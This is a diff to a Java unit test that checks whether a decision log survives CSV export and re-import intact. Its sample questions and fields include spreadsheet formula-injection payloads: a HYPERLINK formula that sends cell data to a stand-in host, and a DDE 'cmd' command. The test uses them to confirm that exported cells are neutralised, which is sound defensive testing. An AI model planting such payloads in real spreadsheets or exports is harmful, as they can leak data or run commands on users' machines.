@@ -4,6 +4,10 @@ import static org.assertj.core.api.Assertions.assertThat;
 import static org.mockito.Mockito.verify;
 import static org.mockito.Mockito.when;
 
+import java.time.LocalDate;
+import java.util.ArrayList;
+import app.counterpoint.decision.DecisionSheet;
+import app.counterpoint.decision.DecisionKeys;
 import app.counterpoint.decision.Decision;
 import app.counterpoint.decision.Decisions;
 import app.counterpoint.decision.Outcome;
@@ -93,6 +97,47 @@ class ImportsTest {
                                 noon("2025-04-24")));
         imports.undo(done.id());
         assertThat(log()).isEmpty();
+    }
+
+    /** What was downloaded here comes back as the same decisions: by its own key here, and by its words anywhere else. */
+    @Test
+    void theDownloadedLogIsReadBackAsTheSameDecisions() {
+        var day = LocalDate.parse("2025-03-03");
+        var questions = List.of(
+                "=HYPERLINK(\"http://e.example/?\"&A1)", "+1 on the queue?", "-20 % of the budget?", "@ 9 or at 10?",
+                "'quoted' or not?", "one;=2+3", "Two, \"three\"; four?", "Ümläut — 決定?", "Plain?");
+        var log = new ArrayList<Decision>();
+        for (int i = 0; i < questions.size(); i++) {
+            var outcome = Outcome.values()[i % Outcome.values().length];
+            log.add(new Decision(
+                    i % 2 == 0
+                            ? DecisionKeys.ofQuestion(id, questions.get(i), day.plusDays(i))
+                            : DecisionKeys.ofExternal(id, "jira", "PAY-" + i),
+                    id,
+                    questions.get(i),
+                    day.plusDays(i),
+                    outcome,
+                    outcome == Outcome.ESCALATED_BY_ONE ? Seat.CPO : null,
+                    outcome == Outcome.OPEN ? null : noon(day.plusDays(i + 3).toString()),
+                    i % 3 == 0 ? day.plusDays(30) : null,
+                    i % 2 == 0,
+                    "=cmd|' /C calc'!A0",
+                    null,
+                    Set.of(),
+                    null,
+                    null));
+        }
+        decisions.addAll(log);
+        var file = Source.of("decisions.csv", DecisionSheet.of(log(), Pair.ZONE));
+
+        assertThat(new String(DecisionSheet.of(log, Pair.ZONE), StandardCharsets.UTF_8).split("[,;\n]"))
+                .allSatisfy(cell -> assertThat(cell).doesNotMatch("(?s)\"?\\s*[=+@-].*"));
+        assertThat(imports.apply(seen(file, Choices.NONE), Seat.CPTO).stored()).isZero();
+        log.forEach(decision -> decisions.remove(decision.id()));
+        assertThat(imports.apply(seen(file, Choices.NONE), Seat.CPTO).stored()).isEqualTo(log.size());
+        assertThat(log())
+                .usingRecursiveFieldByFieldElementComparatorIgnoringFields("version", "importId", "positionOfCto")
+                .containsExactlyInAnyOrderElementsOf(log);
     }
 
     @Test
